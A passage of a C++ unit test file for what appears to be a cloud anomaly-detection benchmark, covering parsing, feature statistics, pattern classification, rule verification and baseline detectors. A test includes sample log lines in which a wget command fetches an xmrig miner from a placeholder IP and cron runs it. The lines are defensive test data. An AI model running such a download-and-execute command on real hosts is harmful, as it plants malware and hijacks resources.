#include <gtest/gtest.h>

#include <cmath>
#include <functional>

#include "cloudano/baselines.hpp"
#include "cloudano/bench_gen.hpp"
#include "cloudano/case_io.hpp"
#include "cloudano/features.hpp"
#include "cloudano/patterns.hpp"
#include "cloudano/ruleset.hpp"
#include "cloudano/verifier.hpp"
#include "test_support.hpp"

using namespace cloudano;
using cloudano::testing::flat_metric;
using cloudano::testing::make_case;
using cloudano::testing::random_series;
using cloudano::testing::random_window;

namespace {

// ---------------------------------------------------------------------------
// core types and case documents

const char* kMinimalCase = R"({
  "id": "c1",
  "label": {"is_anomaly": false, "anomaly_type": null, "difficulty": "easy", "scenario": "idle"},
  "metrics": [{"name": "cpu", "unit": "percent", "interval_seconds": 5, "values": [1.0, 2.0, 3.0]}],
  "logs": [{"timestamp": 5, "text": "sshd accepted session"}]
})";

json minimal_doc() { return json::parse(kMinimalCase); }

template <class E>
std::string error_field(const std::function<void()>& f) {
  try {
    f();
  } catch (const E& e) {
    return e.field();
  }
  return "<no error>";
}

TEST(CaseDocument, MinimalDocumentParses) {
  const auto c = parse_case(kMinimalCase);
  EXPECT_EQ(c.id, "c1");
  EXPECT_FALSE(c.label.is_anomaly);
  EXPECT_FALSE(c.label.anomaly_type);
  ASSERT_EQ(c.metrics.size(), 1u);
  EXPECT_EQ(c.metrics[0].values, (std::vector<double>{1.0, 2.0, 3.0}));
  ASSERT_EQ(c.logs.size(), 1u);
  EXPECT_EQ(c.logs[0].text, "sshd accepted session");
}

TEST(CaseDocument, TypeWithoutAnomalyFlagNamesLabel) {
  auto doc = minimal_doc();
  doc["label"]["anomaly_type"] = "mine";
  EXPECT_EQ(error_field<InvariantError>([&] { parse_case(doc.dump()); }), "label");
  doc["label"]["anomaly_type"] = nullptr;
  doc["label"]["is_anomaly"] = true;
  EXPECT_EQ(error_field<InvariantError>([&] { parse_case(doc.dump()); }), "label");
}

TEST(CaseDocument, SchemaErrorsNameTheField) {
  struct Mutation {
    std::function<void(json&)> apply;
    std::string field;
  };
  const std::vector<Mutation> mutations{
      {[](json& d) { d.erase("id"); }, "id"},
      {[](json& d) { d["id"] = 7; }, "id"},
      {[](json& d) { d.erase("label"); }, "label"},
      {[](json& d) { d["label"].erase("difficulty"); }, "label.difficulty"},
      {[](json& d) { d["label"]["difficulty"] = "medium"; }, "label.difficulty"},
      {[](json& d) { d["label"]["anomaly_type"] = "bitcoin"; }, "label.anomaly_type"},
      {[](json& d) { d["label"]["is_anomaly"] = "no"; }, "label.is_anomaly"},
      {[](json& d) { d["metrics"] = json::object(); }, "metrics"},
      {[](json& d) { d["metrics"][0]["name"] = "swap"; }, "metrics[0].name"},
      {[](json& d) { d["metrics"][0].erase("unit"); }, "metrics[0].unit"},
      {[](json& d) { d["metrics"][0]["interval_seconds"] = 0; }, "metrics[0].interval_seconds"},
      {[](json& d) { d["metrics"][0]["interval_seconds"] = 2.5; }, "metrics[0].interval_seconds"},
      {[](json& d) { d["metrics"][0]["values"][1] = "high"; }, "metrics[0].values[1]"},
      {[](json& d) { d["logs"][0].erase("text"); }, "logs[0].text"},
      {[](json& d) { d["logs"][0]["timestamp"] = "noon"; }, "logs[0].timestamp"},
  };
  for (const auto& m : mutations) {
    auto doc = minimal_doc();
    m.apply(doc);
    EXPECT_EQ(error_field<SchemaError>([&] { parse_case(doc.dump()); }), m.field) << doc.dump();
  }
  EXPECT_EQ(error_field<SchemaError>([] { parse_case("{not json"); }), "document");
  EXPECT_EQ(error_field<SchemaError>([] { parse_case("[1,2]"); }), "document");
}

TEST(CaseDocument, InvariantErrorsNameTheField) {
  struct Mutation {
    std::function<void(json&)> apply;
    std::string field;
  };
  const std::vector<Mutation> mutations{
      {[](json& d) {
         d["metrics"].push_back({{"name", "gpu"}, {"unit", "percent"}, {"interval_seconds", 5}, {"values", {1, 2}}});
       },
       "metrics[1].values"},
      {[](json& d) {
         d["metrics"].push_back({{"name", "cpu"}, {"unit", "percent"}, {"interval_seconds", 5}, {"values", {1, 2, 3}}});
       },
       "metrics[1].name"},
      {[](json& d) {
         d["metrics"].push_back({{"name", "gpu"}, {"unit", "percent"}, {"interval_seconds", 10}, {"values", {1, 2, 3}}});
       },
       "metrics[1].interval_seconds"},
      {[](json& d) { d["metrics"] = json::array(); }, "metrics"},
      {[](json& d) { d["metrics"][0]["values"] = json::array(); }, "metrics[0].values"},
      {[](json& d) { d["metrics"][0]["values"][2] = -1.0; }, "metrics[0].values[2]"},
      {[](json& d) { d["metrics"][0]["values"][0] = 100.5; }, "metrics[0].values[0]"},
      {[](json& d) { d["metrics"][0]["unit"] = ""; }, "metrics[0].unit"},
      {[](json& d) { d["logs"].push_back({{"timestamp", 0}, {"text", "earlier"}}); }, "logs[1].timestamp"},
      {[](json& d) { d["logs"][0]["timestamp"] = 11; }, "logs[0].timestamp"},
      {[](json& d) { d["logs"][0]["timestamp"] = -1; }, "logs[0].timestamp"},
      {[](json& d) { d["logs"][0]["text"] = "two\nlines"; }, "logs[0].text"},
      {[](json& d) { d["id"] = ""; }, "id"},
  };
  for (const auto& m : mutations) {
    auto doc = minimal_doc();
    m.apply(doc);
    EXPECT_EQ(error_field<InvariantError>([&] { parse_case(doc.dump()); }), m.field) << doc.dump();
  }
}

TEST(CaseDocument, RoundTripAndStableBytesOnGeneratedCases) {
  const auto ds = gen_benchmark(GenSpec{}, default_templates(), default_ruleset());
  for (const auto& c : ds.cases) {
    const auto text = serialize_case(c);
    EXPECT_EQ(parse_case(text), c) << c.id;
    EXPECT_EQ(serialize_case(c), text);
  }
}

TEST(CaseDocument, RoundTripOnRandomRecords) {
  Rng rng(11);
  for (int i = 0; i < 200; ++i) {
    CaseRecord c;
    c.id = "r" + std::to_string(i);
    c.label.is_anomaly = rng.chance(0.5);
    if (c.label.is_anomaly) c.label.anomaly_type = rng.pick(kAnomalyTypes);
    c.label.difficulty = rng.chance(0.5) ? Difficulty::easy : Difficulty::difficult;
    c.label.scenario = "s" + std::to_string(rng.between(0, 99));
    auto values = random_series(rng, 2, 40);
    const auto n = values.size();
    for (auto m : kMetricNames) {
      if (!rng.chance(0.6) && !c.metrics.empty()) continue;
      auto v = random_series(rng, n, n);
      for (auto& x : v) x = std::min(x, 100.0);
      c.metrics.push_back(flat_metric(m, 0.0, n));
      c.metrics.back().values = v;
    }
    const auto span = static_cast<std::int64_t>(n - 1) * 5;
    std::int64_t t = 0;
    for (int k = 0; k < rng.between(0, 5); ++k) {
      t = std::min(span, t + rng.between(0, 7));
      c.logs.push_back({t, "line \"" + std::to_string(k) + "\" \\ ü"});
    }
    validate(c);
    EXPECT_EQ(parse_case(serialize_case(c)), c);
  }
}

TEST(CoreTypes, EnumNames) {
  EXPECT_EQ(kPatternTypes.size(), 5u);
  EXPECT_EQ(kAnomalyTypes.size(), 10u);
  EXPECT_EQ(to_string(AnomalyType::mine), "mine");
  const std::vector<std::string_view> expected{"mine",           "oom",          "gpu_hijack",
                                              "port_scan",      "icmp_flood_dos", "dns_amplification",
                                              "data_exfiltration", "arp_spoofing", "log_storm",
                                              "log_growth_anomaly"};
  for (std::size_t i = 0; i < expected.size(); ++i) {
    EXPECT_EQ(to_string(kAnomalyTypes[i]), expected[i]);
    EXPECT_EQ(parse_enum<AnomalyType>(expected[i]), kAnomalyTypes[i]);
  }
  EXPECT_FALSE(parse_enum<AnomalyType>("Mine"));
}

TEST(CoreTypes, DatasetDirectoryRoundTrip) {
  GenSpec spec;
  spec.seed = 5;
  const auto ds = gen_benchmark(spec, default_templates(), default_ruleset());
  const auto dir = std::filesystem::temp_directory_path() / "cloudano_ds_roundtrip";
  std::filesystem::remove_all(dir);
  write_dataset(dir, ds);
  const auto back = read_dataset(dir);
  EXPECT_EQ(back.manifest, ds.manifest);
  EXPECT_EQ(back.cases, ds.cases);
  std::filesystem::remove_all(dir);
}

// ---------------------------------------------------------------------------
// features: independent long-double oracle using different formulas

struct Oracle {
  long double mean, std, min, max, variation, skewness, trend, volatility;
};

// Population variance through the pairwise identity sum_{i<j}(x_i-x_j)^2 / n^2.
long double pairwise_variance(const std::vector<long double>& x) {
  const long double n = static_cast<long double>(x.size());
  long double s = 0;
  for (std::size_t i = 0; i < x.size(); ++i)
    for (std::size_t j = i + 1; j < x.size(); ++j) s += (x[i] - x[j]) * (x[i] - x[j]);
  return s / (n * n);
}

Oracle brute_force(const std::vector<double>& v) {
  std::vector<long double> x(v.begin(), v.end());
  const std::size_t n = x.size();
  Oracle o{};
  o.min = *std::min_element(x.begin(), x.end());
  o.max = *std::max_element(x.begin(), x.end());
  long double sum = 0;
  for (auto a : x) sum += a;
  o.mean = sum / static_cast<long double>(n);
  if (o.min == o.max) {
    o.mean = o.min;
    return o;
  }
  o.std = std::sqrt(pairwise_variance(x));
  long double m3 = 0;
  for (auto a : x) m3 += (a - o.mean) * (a - o.mean) * (a - o.mean);
  m3 /= static_cast<long double>(n);
  o.skewness = o.std > 0 ? m3 / (o.std * o.std * o.std) : 0;
  o.variation = o.mean != 0 ? o.std / std::abs(o.mean) : 0;
  // Closed-form OLS slope on indices: 12 * sum((i - (n-1)/2) x_i) / (n (n^2 - 1)).
  const long double ln = static_cast<long double>(n);
  long double acc = 0;
  for (std::size_t i = 0; i < n; ++i) acc += (static_cast<long double>(i) - (ln - 1) / 2) * x[i];
  o.trend = 12 * acc / (ln * (ln * ln - 1));
  std::vector<long double> d;
  for (std::size_t i = 1; i < n; ++i) d.push_back(x[i] - x[i - 1]);
  o.volatility = std::sqrt(pairwise_variance(d));
  return o;
}

// Relative error 1e-9. Values that are zero in exact arithmetic (skewness of
// symmetric data, slope of a palindrome) are compared against a floor of
// 1e-3 of their natural scale instead.
bool close(double got, long double want, long double scale = 1) {
  const long double denom = std::max(std::abs(want), 1e-3L * scale);
  return std::abs(static_cast<long double>(got) - want) <= 1e-9L * denom;
}

TEST(Features, MatchBruteForceOracleOnRandomSeries) {
  Rng rng(2024);
  int checked = 0;
  for (int i = 0; i < 1000; ++i) {
    const auto v = random_series(rng);
    const auto f = extract_features(v);
    const auto o = brute_force(v);
    const long double mag = o.max;
    EXPECT_TRUE(close(f.mean, o.mean, mag)) << i << " mean " << f.mean << " vs " << static_cast<double>(o.mean);
    EXPECT_TRUE(close(f.std, o.std, mag)) << i << " std";
    EXPECT_TRUE(close(f.min, o.min, mag)) << i << " min";
    EXPECT_TRUE(close(f.max, o.max, mag)) << i << " max";
    EXPECT_TRUE(close(f.variation, o.variation)) << i << " variation";
    EXPECT_TRUE(close(f.skewness, o.skewness)) << i << " skewness " << f.skewness << " vs "
                                               << static_cast<double>(o.skewness);
    EXPECT_TRUE(close(f.trend, o.trend, mag)) << i << " trend " << f.trend << " vs " << static_cast<double>(o.trend);
    EXPECT_TRUE(close(f.volatility, o.volatility, mag)) << i << " volatility";
    EXPECT_LE(f.min, f.mean);
    EXPECT_LE(f.mean, f.max);
    ++checked;
  }
  EXPECT_EQ(checked, 1000);
}

TEST(Features, Examples) {
  const auto flat = extract_features(std::vector<double>{50, 50, 50, 50});
  EXPECT_EQ(flat.mean, 50);
  EXPECT_EQ(flat.variation, 0);
  EXPECT_EQ(flat.skewness, 0);
  EXPECT_EQ(flat.trend, 0);
  EXPECT_EQ(flat.volatility, 0);

  const auto ramp = extract_features(std::vector<double>{1, 2, 3, 4, 5});
  EXPECT_DOUBLE_EQ(ramp.trend, 1.0);
  EXPECT_NEAR(ramp.volatility, 0.0, 1e-15);

  EXPECT_GT(extract_features(std::vector<double>{1, 1, 10}).skewness, 0.0);
  EXPECT_THROW(extract_features(std::vector<double>{1}), Error);
}

TEST(Features, ZeroSpreadImpliesZeroShape) {
  Rng rng(3);
  for (int i = 0; i < 200; ++i) {
    const std::vector<double> v(static_cast<std::size_t>(rng.between(2, 50)), rng.uniform(0, 1000));
    const auto f = extract_features(v);
    EXPECT_EQ(f.std, 0);
    EXPECT_EQ(f.skewness, 0);
    EXPECT_EQ(f.volatility, 0);
  }
}

// ---------------------------------------------------------------------------
// patterns

std::vector<double> reflect(const std::vector<double>& v) {
  const double mu = extract_features(v).mean;
  std::vector<double> out;
  for (double x : v) out.push_back(2.0 * mu - x);
  return out;
}

std::optional<PatternType> mirrored(std::optional<PatternType> p) {
  if (!p) return p;
  switch (*p) {
    case PatternType::spike: return PatternType::dip;
    case PatternType::dip: return PatternType::spike;
    case PatternType::gradual_increase: return PatternType::gradual_decrease;
    case PatternType::gradual_decrease: return PatternType::gradual_increase;
    default: return p;
  }
}

std::optional<PatternType> classify(const std::vector<double>& v) { return classify_values(v, PatternConfig{}); }

TEST(Patterns, Examples) {
  EXPECT_FALSE(classify(std::vector<double>(20, 50.0)));

  std::vector<double> spike(14, 20.0);
  for (double x : {90, 95, 92, 94, 90, 91}) spike.push_back(x);
  EXPECT_EQ(classify(spike), PatternType::spike);

  std::vector<double> ramp;
  for (int i = 0; i < 20; ++i) ramp.push_back(10.0 + 80.0 * i / 19.0);
  EXPECT_EQ(classify(ramp), PatternType::gradual_increase);

  EXPECT_THROW(classify(std::vector<double>{1, 2, 3}), Error);
}

TEST(Patterns, OnsetExamples) {
  const MetricSeries flat = flat_metric(MetricName::cpu, 30.0);
  EXPECT_FALSE(detect_onset(flat));

  std::vector<double> v(14, 20.0);
  for (double x : {90, 95, 92, 94, 90, 91}) v.push_back(x);
  const auto onset = detect_onset(MetricSeries{MetricName::cpu, "percent", 5, v});
  ASSERT_TRUE(onset);
  EXPECT_GE(*onset, 14u);
  EXPECT_LE(*onset, 16u);

  std::vector<double> ramp;
  for (int i = 0; i < 20; ++i) ramp.push_back(10.0 + 80.0 * i / 19.0);
  const auto ramp_onset = detect_onset(MetricSeries{MetricName::cpu, "percent", 5, ramp});
  ASSERT_TRUE(ramp_onset);
  EXPECT_LT(*ramp_onset, 12u);
}

TEST(Patterns, NegationSymmetryOnGeneratedSeries) {
  Rng rng(77);
  int checked = 0;
  for (int i = 0; i < 1000; ++i) {
    const auto w = random_window(rng);
    const auto p = classify(w.values);
    ASSERT_EQ(p, w.target) << i;
    const auto r = reflect(w.values);
    if (std::any_of(r.begin(), r.end(), [](double x) { return x < 0.0; })) continue;
    EXPECT_EQ(classify(r), mirrored(p)) << i;
    ++checked;
  }
  EXPECT_GE(checked, 500);
}

TEST(Patterns, NegationSymmetryOnArbitrarySeries) {
  Rng rng(78);
  int checked = 0;
  for (int i = 0; checked < 1000 && i < 10000; ++i) {
    const auto v = random_series(rng, 4, 80);
    const auto r = reflect(v);
    if (std::any_of(r.begin(), r.end(), [](double x) { return x < 0.0; })) continue;
    const auto ev = evaluate_patterns(v, PatternConfig{});
    // Reflection is exact only up to rounding; skip series sitting on a threshold.
    const double mu = std::max(ev.window_mean, 1e-9);
    auto near = [&](double a, double b) { return std::abs(a - b) <= 1e-9 * std::max({std::abs(a), std::abs(b), mu}); };
    if (near(ev.peak_excess, mu) || near(ev.trough_excess, mu) || near(std::abs(ev.normalized_trend), 0.3) ||
        near(ev.variation, 0.25) || near(ev.max_rise, 0.5 * ev.peak_excess) ||
        near(ev.max_drop, 0.5 * ev.trough_excess) || near(ev.normalized_trend, 0.0))
      continue;
    EXPECT_EQ(classify(r), mirrored(classify(v))) << i;
    ++checked;
  }
  EXPECT_EQ(checked, 1000);
}

TEST(Patterns, PositiveScaleInvariance) {
  Rng rng(79);
  for (int i = 0; i < 1000; ++i) {
    const auto w = random_window(rng);
    const double c = std::pow(10.0, rng.uniform(-3.0, 3.0));
    std::vector<double> scaled;
    for (double x : w.values) scaled.push_back(c * x);
    EXPECT_EQ(classify(scaled), w.target) << i << " c=" << c;

    // Powers of two scale exactly, so arbitrary series must not change either.
    const auto v = random_series(rng, 4, 80);
    const double k = std::ldexp(1.0, static_cast<int>(rng.between(-20, 20)));
    std::vector<double> exact;
    for (double x : v) exact.push_back(k * x);
    EXPECT_EQ(classify(exact), classify(v)) << i;
  }
}

TEST(Patterns, PrependingBaselineKeepsSpike) {
  Rng rng(80);
  int checked = 0;
  while (checked < 300) {
    const double span = rng.uniform(40, 400);
    auto v = gen_shaped_values(PatternType::spike, {0, span}, rng.chance(0.5) ? 20 : 60, rng).values;
    const double base = evaluate_patterns(v, PatternConfig{}).baseline_mean;
    for (int k = 1; k <= 3; ++k) {
      v.insert(v.begin(), base);
      EXPECT_EQ(classify(v), PatternType::spike) << checked << " k=" << k;
    }
    ++checked;
  }
}

TEST(Patterns, ConfigValidation) {
  PatternConfig c;
  EXPECT_NO_THROW(c.validate());
  c.baseline_fraction = 0.6;
  EXPECT_THROW(c.validate(), Error);
  c = {};
  c.dip_ratio = 1.0;
  EXPECT_THROW(c.validate(), Error);
  c = {};
  c.trend_slope_min = 0;
  EXPECT_THROW(c.validate(), Error);
}

// ---------------------------------------------------------------------------
// ruleset and verifier

TEST(Ruleset, DefaultCoversEveryTypeOnce) {
  const auto r = default_ruleset();
  EXPECT_EQ(r.specs().size(), 10u);
  for (auto t : kAnomalyTypes) EXPECT_EQ(r.at(t).anomaly_type, t);
  const auto& mine = r.at(AnomalyType::mine);
  EXPECT_EQ(mine.metric_predicates[0].metric, MetricName::cpu);
  EXPECT_EQ(mine.metric_predicates[0].required_pattern, PatternType::spike);
  const auto& oom = r.at(AnomalyType::oom);
  EXPECT_EQ(oom.metric_predicates[0].required_pattern, PatternType::gradual_increase);
  EXPECT_TRUE(oom.log_signature.must_match[0].matches("kernel: java invoked oom-killer"));
  EXPECT_TRUE(mine.log_signature.must_match[1].matches("CRON[42]: (root) CMD (/tmp/x)"));
}

TEST(Ruleset, FileRoundTrip) {
  const auto r = default_ruleset();
  const auto text = serialize_ruleset(r);
  EXPECT_EQ(parse_ruleset(text), r);
  EXPECT_EQ(serialize_ruleset(parse_ruleset(text)), text);
}

TEST(Ruleset, RejectsBrokenFiles) {
  auto doc = json::parse(serialize_ruleset(default_ruleset()));
  auto bad_regex = doc;
  bad_regex["rules"][0]["log_signature"]["must_match"][0] = "(unclosed";
  EXPECT_EQ(error_field<InvariantError>([&] { parse_ruleset(bad_regex.dump()); }),
            "rules[0].log_signature.must_match");

  auto missing = doc;
  missing["rules"].erase(3);
  EXPECT_EQ(error_field<InvariantError>([&] { parse_ruleset(missing.dump()); }), "rules");

  auto dup = doc;
  dup["rules"][1]["anomaly_type"] = "mine";
  EXPECT_THROW(parse_ruleset(dup.dump()), InvariantError);

  auto empty_sig = doc;
  empty_sig["rules"][0]["log_signature"]["must_match"] = json::array();
  EXPECT_THROW(parse_ruleset(empty_sig.dump()), InvariantError);

  auto bad_stat = doc;
  bad_stat["rules"][0]["metric_predicates"][0]["aux_checks"][0]["statistic"] = "median";
  EXPECT_EQ(error_field<SchemaError>([&] { parse_ruleset(bad_stat.dump()); }),
            "rules[0].metric_predicates[0].aux_checks[0].statistic");

  auto bad_format = doc;
  bad_format["format"] = "other/2";
  EXPECT_THROW(parse_ruleset(bad_format.dump()), SchemaError);
}

TEST(Verifier, MetricExamples) {
  const auto rules = default_ruleset();
  const auto mine = make_case("mine-cron-xmrig");
  EXPECT_TRUE(verify_metric(mine.metrics, AnomalyType::mine, rules).passed);

  std::vector<MetricSeries> flat;
  for (auto m : kMetricNames) flat.push_back(flat_metric(m, 30.0));
  for (auto t : kAnomalyTypes) {
    const auto r = verify_metric(flat, t, rules);
    EXPECT_FALSE(r.passed);
    ASSERT_FALSE(r.failed_items.empty());
    const auto& p = rules.at(t).metric_predicates[0];
    EXPECT_NE(r.failed_items[0].find(std::string(to_string(p.required_pattern))), std::string::npos)
        << r.failed_items[0];
  }

  const auto oom = make_case("oom-heap-leak");
  const auto r = verify_metric(oom.metrics, AnomalyType::mine, rules);
  EXPECT_FALSE(r.passed);
  EXPECT_NE(r.failed_items[0].find("cpu"), std::string::npos);
}

TEST(Verifier, LogExamples) {
  const auto rules = default_ruleset();
  const std::vector<LogEntry> mine_logs{
      {0, "bash[311]: deploy: wget -q http://203.0.113.9/.x/xmrig -O /tmp/.cache/xmrig"},
      {5, "CRON[312]: (deploy) CMD (/tmp/.cache/xmrig --background)"}};
  const auto r = verify_log(mine_logs, AnomalyType::mine, rules);
  EXPECT_TRUE(r.passed);
  EXPECT_EQ(r.matched_evidence.size(), 2u);

  for (auto t : kAnomalyTypes) EXPECT_FALSE(verify_log({}, t, rules).passed);

  const auto upgrade = make_case("package-upgrade");
  for (auto t : kAnomalyTypes) EXPECT_FALSE(verify_log(upgrade.logs, t, rules).passed) << to_string(t);
}

TEST(Verifier, PassedIffNoFailedItems) {
  const auto rules = default_ruleset();
  const auto ds = gen_benchmark(GenSpec{}, default_templates(), rules);
  for (const auto& c : ds.cases) {
    for (auto t : kAnomalyTypes) {
      const auto m = verify_metric(c.metrics, t, rules);
      const auto l = verify_log(c.logs, t, rules);
      EXPECT_EQ(m.passed, m.failed_items.empty());
      EXPECT_EQ(l.passed, l.failed_items.empty());
    }
  }
}

// ---------------------------------------------------------------------------
// critic loop

TEST(CriticLoop, Examples) {
  const auto rules = default_ruleset();
  const auto mine = make_case("mine-cron-xmrig");
  int calls = 0;
  RetestFn never = [&](const RetestRequest&) {
    ++calls;
    return Verdict::normal("unused");
  };
  const auto ok = verify_and_critic(Verdict::anomaly(AnomalyType::mine, "x"), mine, rules, never);
  EXPECT_EQ(ok.status, VerdictStatus::accepted);
  EXPECT_EQ(ok.retries_used, 0);
  EXPECT_TRUE(ok.failed_checks.empty());
  EXPECT_EQ(calls, 0);

  RetestFn constant = [&](const RetestRequest&) {
    ++calls;
    return Verdict::anomaly(AnomalyType::oom, "still oom");
  };
  for (int max_retries : {0, 1, 2, 5}) {
    calls = 0;
    const auto f = verify_and_critic(Verdict::anomaly(AnomalyType::oom, "x"), mine, rules, constant, max_retries);
    EXPECT_EQ(f.status, VerdictStatus::abstained);
    EXPECT_EQ(f.retries_used, max_retries);
    EXPECT_EQ(calls, max_retries);
    EXPECT_EQ(f.verdict.anomaly_type, AnomalyType::oom);
    EXPECT_FALSE(f.failed_checks.empty());
  }

  const auto deceptive = make_case("package-upgrade");
  calls = 0;
  const auto n = verify_and_critic(Verdict::normal("benign"), deceptive, rules, never);
  EXPECT_EQ(n.status, VerdictStatus::accepted);
  EXPECT_FALSE(n.verdict.is_anomaly);
  EXPECT_EQ(n.retries_used, 0);
  EXPECT_EQ(calls, 0);
}

TEST(CriticLoop, CorrectionAfterRetest) {
  const auto rules = default_ruleset();
  const auto mine = make_case("mine-cron-xmrig");
  std::vector<RetestRequest> seen;
  RetestFn fix = [&](const RetestRequest& req) {
    seen.push_back(req);
    return Verdict::anomaly(AnomalyType::mine, "corrected");
  };
  const auto f = verify_and_critic(Verdict::anomaly(AnomalyType::oom, "x"), mine, rules, fix);
  EXPECT_EQ(f.status, VerdictStatus::corrected);
  EXPECT_EQ(f.retries_used, 1);
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].attempt, 1);
  EXPECT_FALSE(seen[0].feedback.empty());

  // A normal verdict on a case that verifies as mine is retested with mine suggested.
  seen.clear();
  const auto g = verify_and_critic(Verdict::normal("x"), mine, rules, fix);
  EXPECT_EQ(g.verdict.anomaly_type, AnomalyType::mine);
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].suggested_type, AnomalyType::mine);
}

// Random retest policies over random generated cases.
TEST(CriticLoop, SoundBoundedAndComplete) {
  const auto rules = default_ruleset();
  const auto set = default_templates();
  Rng rng(99);
  for (int i = 0; i < 300; ++i) {
    const auto& tmpl = set.templates[static_cast<std::size_t>(rng.between(0, static_cast<std::int64_t>(set.templates.size()) - 1))];
    Rng case_rng(rng.next());
    const auto c = gen_case(tmpl, rng.chance(0.5) ? Difficulty::easy : Difficulty::difficult, case_rng, set, rules);
    auto random_verdict = [&] {
      if (rng.chance(0.3)) return Verdict::normal("n");
      return Verdict::anomaly(rng.pick(kAnomalyTypes), "a");
    };
    const int max_retries = static_cast<int>(rng.between(0, 4));
    int calls = 0;
    RetestFn retest = [&](const RetestRequest& req) {
      ++calls;
      EXPECT_EQ(req.attempt, calls);
      EXPECT_FALSE(req.feedback.empty());
      return random_verdict();
    };
    const auto initial = random_verdict();
    const auto f = verify_and_critic(initial, c, rules, retest, max_retries);
    EXPECT_LE(f.retries_used, max_retries);
    EXPECT_EQ(calls, f.retries_used);
    if (f.status != VerdictStatus::abstained) {
      EXPECT_TRUE(f.failed_checks.empty());
      if (f.verdict.is_anomaly) {
        EXPECT_TRUE(verify_metric(c.metrics, *f.verdict.anomaly_type, rules).passed);
        EXPECT_TRUE(verify_log(c.logs, *f.verdict.anomaly_type, rules).passed);
      } else {
        EXPECT_FALSE(first_verified_type(c, rules));
      }
    } else {
      EXPECT_EQ(f.retries_used, max_retries);
    }
    if (!initial.is_anomaly && !first_verified_type(c, rules)) {
      EXPECT_EQ(f.verdict, initial);
      EXPECT_EQ(f.retries_used, 0);
    }
  }
}

// ---------------------------------------------------------------------------
// baselines

TEST(RuleEnsemble, ThresholdBoundaries) {
  EXPECT_EQ(adaptive_vote_threshold(0), 1);
  EXPECT_EQ(adaptive_vote_threshold(1), 1);
  EXPECT_EQ(adaptive_vote_threshold(2), 1);
  EXPECT_EQ(adaptive_vote_threshold(3), 2);
  EXPECT_EQ(adaptive_vote_threshold(6), 3);
  for (int m = 1; m <= 50; ++m) EXPECT_EQ(adaptive_vote_threshold(m), std::max(1, static_cast<int>(std::ceil(m * 0.34 - 1e-12))));
}

// Alternating 100/110 fires only the volatility rule.
MetricSeries single_vote_metric(MetricName name) {
  MetricSeries m = flat_metric(name, 0.0);
  for (std::size_t i = 0; i < m.values.size(); ++i) m.values[i] = i % 2 ? 60.0 : 66.0;
  return m;
}

int fired(const std::vector<RuleVote>& votes) {
  return static_cast<int>(std::count_if(votes.begin(), votes.end(), [](const RuleVote& v) { return v.fired; }));
}

TEST(RuleEnsemble, VoteCountsAtMetricCountBoundaries) {
  ASSERT_EQ(fired(rule_votes(single_vote_metric(MetricName::cpu), {})), 1);
  ASSERT_EQ(fired(rule_votes(flat_metric(MetricName::cpu, 30.0), {})), 0);
  for (int m : {1, 2, 3, 6}) {
    for (int k = 0; k <= m; ++k) {
      CaseRecord c;
      c.id = "v";
      for (int i = 0; i < m; ++i) {
        const auto name = kMetricNames[static_cast<std::size_t>(i)];
        c.metrics.push_back(i < k ? single_vote_metric(name) : flat_metric(name, 30.0));
      }
      const auto v = rule_ensemble_detect(c);
      EXPECT_EQ(v.is_anomaly, k >= adaptive_vote_threshold(m)) << "m=" << m << " k=" << k;
      EXPECT_TRUE(v.binary);
      EXPECT_FALSE(v.anomaly_type);
    }
  }
}

TEST(RuleEnsemble, Examples) {
  CaseRecord flat;
  flat.id = "f";
  for (auto m : kMetricNames) flat.metrics.push_back(flat_metric(m, 25.0));
  EXPECT_FALSE(rule_ensemble_detect(flat).is_anomaly);

  const auto ds = gen_benchmark(GenSpec{}, default_templates(), default_ruleset());
  for (const auto& c : ds.cases) {
    if (c.label.is_anomaly) {
      EXPECT_TRUE(rule_ensemble_detect(c).is_anomaly) << c.id;
    }
  }

  EXPECT_TRUE(rule_ensemble_detect(make_case("package-upgrade")).is_anomaly);
}

TEST(RuleEnsemble, VoteMonotonicityWithFixedMetricCount) {
  const auto set = default_templates();
  const auto rules = default_ruleset();
  Rng rng(5);
  for (int i = 0; i < 300; ++i) {
    const auto& tmpl = rng.pick(set.templates);
    Rng case_rng(rng.next());
    auto c = gen_case(tmpl, Difficulty::easy, case_rng, set, rules);
    const bool before = rule_ensemble_detect(c).is_anomaly;
    // Replace a metric that fires nothing with one that fires a vote.
    for (auto& m : c.metrics) {
      if (fired(rule_votes(m, {})) == 0) {
        m = single_vote_metric(m.name);
        m.values.resize(c.metrics.front().values.size(), 60.0);
        break;
      }
    }
    if (before) {
      EXPECT_TRUE(rule_ensemble_detect(c).is_anomaly) << i;
    }
  }
}

TEST(RuleEnsemble, VolatilityReferenceIsNinetiethPercentileOfFlatWindows) {
  Rng rng(31);
  for (std::size_t n : {20u, 60u}) {
    std::vector<double> rel;
    for (int i = 0; i < 4000; ++i) {
      const double span = rng.uniform(20, 200);
      const auto v = gen_shaped_values(std::nullopt, {0, span}, n, rng).values;
      const auto f = extract_features(v);
      rel.push_back(f.volatility / f.mean);
    }
    std::sort(rel.begin(), rel.end());
    const double p90 = rel[rel.size() * 9 / 10];
    EXPECT_LE(p90, kVolatilityReference) << n;
    EXPECT_GE(p90, 0.8 * kVolatilityReference) << n;
  }
}

TEST(Oov, Tokenization) {
  EXPECT_EQ(tokenize_log_line("sshd accepted session"), (std::vector<std::string>{"sshd", "accepted", "session"}));
  EXPECT_EQ(tokenize_log_line("CRON[4411]: (root) port 8080"),
            (std::vector<std::string>{"cron", "#", "root", "port", "#"}));
  EXPECT_EQ(tokenize_log_line("container 3f9a2c81d0 eth0"),
            (std::vector<std::string>{"container", "<hex>", "eth#"}));
  EXPECT_EQ(tokenize_log_line("beef cafe"), (std::vector<std::string>{"beef", "cafe"}));
}

CaseRecord log_case(std::vector<std::string> lines) {
  CaseRecord c;
  c.id = "l";
  c.metrics.push_back(flat_metric(MetricName::cpu, 10.0));
  std::int64_t t = 0;
  for (auto& l : lines) c.logs.push_back({t++, std::move(l)});
  return c;
}

TEST(Oov, Examples) {
  const auto vocab = build_vocabulary({log_case({"sshd accepted session"})});
  EXPECT_EQ(vocab.tokens, (std::set<std::string>{"sshd", "accepted", "session"}));
  EXPECT_EQ(vocab.source_case_count, 1);

  EXPECT_FALSE(oov_detect(log_case({"session accepted sshd"}), vocab).is_anomaly);
  EXPECT_EQ(oov_fraction(log_case({"sshd started xmrig"}), vocab), 2.0 / 3.0);
  EXPECT_TRUE(oov_detect(log_case({"sshd started xmrig"}), vocab).is_anomaly);
